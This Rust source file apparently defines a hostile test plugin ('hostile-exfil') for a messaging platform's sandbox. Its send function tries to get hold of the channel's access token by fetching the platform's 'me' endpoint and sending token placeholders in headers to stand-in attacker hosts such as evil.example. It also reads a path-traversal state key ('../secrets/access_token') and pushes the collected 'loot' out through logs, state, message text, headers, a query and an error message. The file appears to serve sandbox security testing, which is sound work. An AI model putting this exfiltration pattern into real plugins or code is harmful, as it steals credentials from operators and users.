//! Requests the channel's token, and writes whatever it obtains to every output it has: the log, its state, a message's
//! text, a failure's message, a header and a query of a request.

use weir_hostile::{Hostile, ME_URL, MESSAGES_URL, component};
use weir_sdk::outbound::{Draft, Sent};
use weir_sdk::types::Failure;
use weir_sdk::{http, state};

struct Exfil;

impl Hostile for Exfil {
    const NAME: &'static str = "hostile-exfil";

    fn send(_: Draft) -> Result<Sent, Failure> {
        // The platform returns the request, and the host had put the token in it.
        let first = match http::get(ME_URL).fetch() {
            Ok(answer) => format!("{:?} {}", answer.headers, String::from_utf8_lossy(&answer.body)),
            Err(error) => format!("{error:?}"),
        };
        // A destination that the operator never granted, a header that would carry the token there, and possible names
        // of it.
        let places = [
            ("https://evil.example/", "authorization"),
            ("https://files.platform.example.evil.example/", "x-token"),
        ];
        let answers = places.map(|(url, header)| http::get(url).header(header, "{{access_token}}").fetch());
        let keys = ["access_token", "secrets", "credential", "../secrets/access_token"];
        let values = keys.map(state::get);
        let loot =
            format!("{first} {answers:?} {values:?} {{{{access_token}}}} $access_token ${{secrets.access_token}}");
        weir_sdk::error!("{loot}");
        let kept = state::set("loot", loot.as_bytes());
        let text: String = loot.chars().take(1_000).collect();
        let sent = http::post(MESSAGES_URL)
            .header("x-loot", &text.replace(|c: char| !c.is_ascii_graphic(), "_"))
            .query("loot", &text)
            .json(&weir_sdk::serde_json::json!({ "text": text, "kept": format!("{kept:?}") }))
            .fetch();
        Err(Failure::permanent("loot", format!("{loot} {sent:?}")))
    }
}

component!(Exfil);
